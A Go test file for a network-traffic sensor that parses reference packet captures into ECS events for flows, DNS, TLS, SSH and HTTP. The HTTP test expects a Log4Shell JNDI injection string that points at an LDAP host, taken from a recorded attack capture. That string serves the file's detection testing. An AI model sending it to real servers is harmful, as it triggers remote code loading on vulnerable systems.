package packet

import (
	"context"
	"encoding/json"
	"errors"
	"path/filepath"
	"slices"
	"testing"

	"github.com/canhgac/canhgac/ecs"
	"github.com/canhgac/canhgac/i18n"
)

func readEvents(t *testing.T, name string) ([]*ecs.Event, Stats) {
	t.Helper()
	var events []*ecs.Event
	s := &Sensor{Emit: func(e *ecs.Event) error { events = append(events, e); return nil }}
	stats, err := s.ReadFile(context.Background(), filepath.Join(pcapDir, name))
	if err != nil {
		t.Fatalf("ReadFile %s: %v", name, err)
	}
	return events, stats
}

func byDataset(events []*ecs.Event, dataset string) []*ecs.Event {
	var out []*ecs.Event
	for _, e := range events {
		if e.Fields["event.dataset"] == dataset {
			out = append(out, e)
		}
	}
	return out
}

func TestEventsDeterministic(t *testing.T) {
	first, stats := readEvents(t, "zeek-traces/wikipedia.pcap")
	again, _ := readEvents(t, "zeek-traces/wikipedia.pcap")
	if len(first) != len(again) {
		t.Fatalf("events = %d then %d", len(first), len(again))
	}
	ids := map[string]bool{}
	for i, e := range first {
		if e.ID != again[i].ID {
			t.Errorf("event %d id %s then %s", i, e.ID, again[i].ID)
		}
		if ids[e.ID] {
			t.Errorf("event %d id %s repeats", i, e.ID)
		}
		ids[e.ID] = true
		if e.Seq != uint64(i+1) {
			t.Errorf("event %d seq = %d, want %d", i, e.Seq, i+1)
		}
		if e.Fields["log.file.path"] != e.SourceID {
			t.Errorf("event %d log.file.path = %v, want the source %s", i, e.Fields["log.file.path"], e.SourceID)
		}
		if _, err := json.Marshal(e); err != nil {
			t.Errorf("event %d does not encode: %v", i, err)
		}
	}
	if got := len(byDataset(first, DatasetFlow)); uint64(got) != stats.Flows {
		t.Errorf("flow events = %d, Stats.Flows = %d", got, stats.Flows)
	}
}

func TestFlowEventFields(t *testing.T) {
	events, _ := readEvents(t, "chrissanders-packets/tcp_handshake.pcapng")
	flows := byDataset(events, DatasetFlow)
	if len(flows) != 1 {
		t.Fatalf("flow events = %d, want 1", len(flows))
	}
	f := flows[0].Fields
	want := ecs.Fields{
		"event.kind":          "event",
		"event.module":        "network_traffic",
		"network.transport":   "tcp",
		"network.type":        "ipv4",
		"source.ip":           "172.16.16.128",
		"source.packets":      int64(2),
		"destination.packets": int64(1),
		"network.packets":     int64(3),
		"event.duration":      int64(132768000),
		"event.reason":        "end-of-capture",
	}
	for k, v := range want {
		if f[k] != v {
			t.Errorf("%s = %#v, want %#v", k, f[k], v)
		}
	}
	if cats, _ := f["event.category"].([]string); !slices.Equal(cats, []string{"network"}) {
		t.Errorf("event.category = %v, want [network]", f["event.category"])
	}
	if id, _ := f["network.community_id"].(string); len(id) != 30 || id[:2] != "1:" {
		t.Errorf("network.community_id = %q, want 1:<base64 of SHA-1>", id)
	}
}

func TestDNSEventFields(t *testing.T) {
	events, _ := readEvents(t, "chrissanders-packets/dns_query_response.pcapng")
	dns := byDataset(events, DatasetDNS)
	if len(dns) != 1 {
		t.Fatalf("DNS events = %d, want 1 transaction", len(dns))
	}
	f := dns[0].Fields
	if f["dns.question.name"] != "wireshark.org" || f["dns.question.type"] != "A" {
		t.Errorf("question = %v %v, want wireshark.org A", f["dns.question.name"], f["dns.question.type"])
	}
	if f["dns.response_code"] != "NOERROR" || f["dns.type"] != "answer" {
		t.Errorf("response_code = %v, dns.type = %v; want NOERROR, answer", f["dns.response_code"], f["dns.type"])
	}
	answers, ok := f["dns.answers"].([]any)
	if !ok || len(answers) == 0 {
		t.Fatalf("dns.answers = %#v, want a non-empty []any", f["dns.answers"])
	}
	a, ok := answers[0].(map[string]any)
	if !ok || a["type"] != "A" || a["data"] == "" {
		t.Errorf("first answer = %#v, want an A record with data", answers[0])
	}
}

func TestTLSAndSSHEventFields(t *testing.T) {
	events, _ := readEvents(t, "suricata-verify/tls-json-output-ids/input.pcap")
	tls := byDataset(events, DatasetTLS)
	if len(tls) != 1 {
		t.Fatalf("TLS events = %d, want 1", len(tls))
	}
	f := tls[0].Fields
	if f["tls.client.server_name"] != "www.google.com" || f["tls.version"] != "1.2" || f["tls.version_protocol"] != "tls" {
		t.Errorf("server_name %v version %v %v, want www.google.com tls 1.2", f["tls.client.server_name"], f["tls.version_protocol"], f["tls.version"])
	}
	if ja3, _ := f["tls.client.ja3"].(string); len(ja3) != 32 {
		t.Errorf("tls.client.ja3 = %q, want an MD5 hex string", ja3)
	}
	if ja4, _ := f["tls.client.ja4"].(string); len(ja4) != 36 {
		t.Errorf("tls.client.ja4 = %q, want a 36-character JA4", ja4)
	}

	events, _ = readEvents(t, "zeek-traces/ssh_single-conn.pcap")
	ssh := byDataset(events, DatasetSSH)
	if len(ssh) != 1 {
		t.Fatalf("SSH events = %d, want 1", len(ssh))
	}
	if ssh[0].Fields["ssh.client"] != "SSH-2.0-OpenSSH_3.8.1p1" || ssh[0].Fields["ssh.server"] != "SSH-1.99-OpenSSH_3.9p1" {
		t.Errorf("ssh.client %v ssh.server %v", ssh[0].Fields["ssh.client"], ssh[0].Fields["ssh.server"])
	}
}

func TestHTTPEventFields(t *testing.T) {
	events, _ := readEvents(t, "otrf/pcap_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.pcap")
	http := byDataset(events, DatasetHTTP)
	if len(http) != 2 {
		t.Fatalf("HTTP events = %d, want 2", len(http))
	}
	f := http[0].Fields
	want := ecs.Fields{
		"http.request.method": "GET",
		"url.domain":          "192.168.2.5",
		"url.port":            int64(8080),
		"url.path":            "/Log4j-2.14.0-SNAPSHOT/api",
		"user_agent.original": "${jndi:ldap://192.168.2.6:1389/o=reference}",
	}
	for k, v := range want {
		if f[k] != v {
			t.Errorf("%s = %#v, want %#v", k, f[k], v)
		}
	}
}

func TestEmitErrorStopsRead(t *testing.T) {
	stop := errors.New("store unavailable")
	calls := 0
	s := &Sensor{Emit: func(*ecs.Event) error { calls++; return stop }}
	_, err := s.ReadFile(context.Background(), filepath.Join(pcapDir, "zeek-traces/wikipedia.pcap"))
	if !errors.Is(err, stop) {
		t.Fatalf("error = %v, want the Emit error", err)
	}
	if calls != 1 {
		t.Errorf("Emit called %d times after its error, want 1", calls)
	}
}

func TestMissingFileError(t *testing.T) {
	s := &Sensor{Emit: func(*ecs.Event) error { return nil }}
	_, err := s.ReadFile(context.Background(), "no/such/file.pcap")
	var pe *Error
	if !errors.As(err, &pe) || pe.Key != "packet.file.open" {
		t.Fatalf("error = %v, want a packet.file.open *Error", err)
	}
	if msg := pe.Message(i18n.VI); msg == pe.Message(i18n.EN) {
		t.Errorf("Vietnamese and English messages are the same: %q", msg)
	}
}

func TestMessagesRegistered(t *testing.T) {
	for _, key := range []string{"packet.capture.permission", "packet.capture.no_interface", "packet.capture.open", "packet.capture.read", "packet.file.open", "packet.file.format"} {
		if !i18n.Has(key) {
			t.Errorf("message %s not in the catalog", key)
		}
	}
}
